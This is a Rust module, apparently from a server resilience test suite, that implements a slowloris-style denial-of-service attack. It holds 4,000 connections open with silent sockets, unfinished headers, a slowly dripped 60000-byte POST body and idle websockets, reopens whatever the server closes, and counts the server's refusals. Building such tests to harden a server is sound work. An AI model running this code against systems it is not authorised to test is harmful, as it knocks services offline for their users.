//! Connections that cost the server something and the attacker nothing: silent, half a request, drop by drop.

use std::io::{self, ErrorKind};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::attacker::Attacker;

/// How many connections are held open.
const CONNECTIONS: usize = 4000;
/// The time between two drops.
const DROP_EVERY: Duration = Duration::from_secs(1);

/// Holds thousands of connections open: silent ones, requests whose header or body never ends, idle ones after a whole
/// request, and sockets without a first message. Whatever the server closes is opened again.
pub(super) async fn slow_loris(attacker: Arc<Attacker>) {
    attacker.repeat(CONNECTIONS, hold_open).await;
}

async fn hold_open(attacker: Arc<Attacker>, number: usize) -> io::Result<()> {
    let host = attacker.target();
    let (begin, drops) = match number % 5 {
        0 => (String::new(), ""),
        1 => (format!("GET / HTTP/1.1\r\nHost: {host}\r\n"), "X-Slow: 1\r\n"),
        2 => (format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n\r\n"), ""),
        3 => {
            let head = format!("POST /api/v1/tables HTTP/1.1\r\nHost: {host}\r\n");
            (head + "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{", " ")
        }
        _ => {
            let websocket_client = attacker.socket().await?;
            let _open = attacker.counts().opened();
            return wait(&attacker, websocket_client.into_stream(), "").await;
        }
    };
    let mut stream = attacker.connect().await?;
    let _open = attacker.counts().opened();
    stream.write_all(begin.as_bytes()).await?;
    wait(&attacker, stream, drops).await
}

/// Waits for the server to end it, and sends a drop now and then.
async fn wait(attacker: &Attacker, mut stream: TcpStream, drops: &str) -> io::Result<()> {
    let mut answer = [0; 512];
    let mut ticks = tokio::time::interval(DROP_EVERY);
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => match read? {
                0 => return Err(ErrorKind::UnexpectedEof.into()),
                read => {
                    let text = String::from_utf8_lossy(&answer[..read]);
                    let refused = ["408", "429", "503"].iter().any(|status| text.get(9..12) == Some(*status));
                    attacker.counts().refused(u64::from(refused));
                }
            },
            _ = ticks.tick() => stream.write_all(drops.as_bytes()).await?,
        }
    }
}
